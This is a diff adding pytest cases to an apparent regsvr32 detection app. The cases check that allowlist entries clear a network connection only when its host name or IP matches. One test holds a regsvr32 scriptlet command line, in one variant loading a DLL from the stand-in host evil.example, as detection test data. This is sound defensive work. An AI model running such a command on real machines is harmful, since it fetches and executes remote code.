@@ -9,6 +9,7 @@ import time
 import pytest
 
 from support.allowlists import HEADER, allowlist_row
+from support.edr_shapes import convert
 from test_command import run_in, score
 
 LOCAL = "regsvr32_allowlist_local.csv"
@@ -270,3 +271,48 @@ def test_an_event_without_a_usable_time_is_judged_on_the_searchs_utc_day(app_cop
     if datetime.datetime.now(datetime.timezone.utc).date() != today:
         pytest.skip("ran across midnight UTC")
     assert "R32-007" not in rules(result.rows[0]) and "R32-006" in rules(result.rows[0])
+
+
+# --- url_host on a connection with both a host name and an IP ------------------------------------
+def sysmon3(host="cdn.vendor.example", ip="151.101.0.133"):
+    event = {"EventCode": "3", "Image": "C:\\Windows\\System32\\regsvr32.exe", "Computer": "WS1",
+             "User": "CORP\\bob", "Initiated": "true", "DestinationIp": ip, "DestinationPort": "443"}
+    if host:
+        event["DestinationHostname"] = host
+    return event
+
+
+def defender3(host="cdn.vendor.example", ip="151.101.0.133"):
+    event = convert("defender", sysmon3(None, ip))
+    event["RemoteUrl"] = host
+    return event
+
+
+@pytest.mark.parametrize("shape", [sysmon3, defender3])
+@pytest.mark.parametrize(("cell", "host", "ip", "cleared"), [
+    ("cdn.vendor.example", "cdn.vendor.example", "151.101.0.133", True),     # the host name
+    ("*.vendor.example", "CDN.Vendor.Example", "151.101.0.133", True),
+    ("151.101.0.133", "cdn.vendor.example", "151.101.0.133", True),          # or the IP
+    ("151.101.*", "cdn.vendor.example", "151.101.0.133", True),
+    ("cdn.vendor.example", "evil.example", "151.101.0.133", False),          # neither
+    ("151.101.0.133", "cdn.vendor.example", "151.101.0.134", False),
+    ("*.vendor.example", "cdn.vendor.example.evil.example", "104.20.208.21", False),
+])
+def test_url_host_clears_a_connection_whose_host_name_or_ip_matches(app_copy, shape, cell, host, ip, cleared):
+    write(app_copy, LOCAL, HEADER + allowlist_row(rule_id="R32-021", url_host=cell, reason="vendor CDN"))
+    event = shape(host, ip)
+    plain = run_in(app_copy, ["allowlists=regsvr32_allowlist_default"], [[event]])
+    assert "R32-021" in rules(plain.rows[0])                          # a public connection: flagged
+    result = run_in(app_copy, [], [[event]])
+    assert ("R32-021" not in rules(result.rows[0])) == cleared, result.rows[0]["regsvr32_reasons"]
+    assert ("vendor CDN (%s:2)" % LOCAL in str(result.rows[0]["regsvr32_allowlisted"])) == cleared
+
+
+def test_each_host_of_a_command_line_must_still_match(app_copy):
+    # Names of one peer are alternatives; distinct hosts are not: an allowed one gives no cover.
+    write(app_copy, LOCAL, HEADER + allowlist_row(rule_id="*", url_host="good.example", reason="vendor"))
+    line = "regsvr32 /s /u /i:https://good.example/a.sct scrobj.dll"
+    result = run_in(app_copy, [], [[dict(public_dll("WS1"), CommandLine=line),
+                                    dict(public_dll("WS1"), CommandLine=line.replace(
+                                        "/i:", "\\\\evil.example\\s\\x.dll /i:"))]])
+    assert [bool(rules(r)) for r in result.rows] == [False, True]
